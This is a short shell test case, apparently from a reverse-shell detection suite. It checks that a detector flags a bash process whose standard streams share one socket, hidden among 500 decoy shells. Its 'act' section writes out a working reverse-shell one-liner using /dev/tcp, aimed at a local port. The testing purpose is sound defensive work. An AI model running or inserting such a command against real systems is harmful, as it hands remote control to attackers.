# A10: bash on a connection of its own, beside 500 shells that read what one process writes
# stage: behaviour
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.0.process_id: $shell
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4610

#: prepare
. lib/covers.sh
. lib/peers.sh
peer 4610
crowded_pipe /tmp/a10
#: act
. lib/peers.sh
act
bash -c "bash -i >& /dev/tcp/127.0.0.1/4610 0>&1" < /dev/null > /dev/null 2>&1 &
who shell 'bash -i'
await 'at $shell 0 socket:* && same $shell 0 $shell 1 && same $shell 1 $shell 2'
#: clean
kill $hog; rm /tmp/a10 /tmp/a10.ready
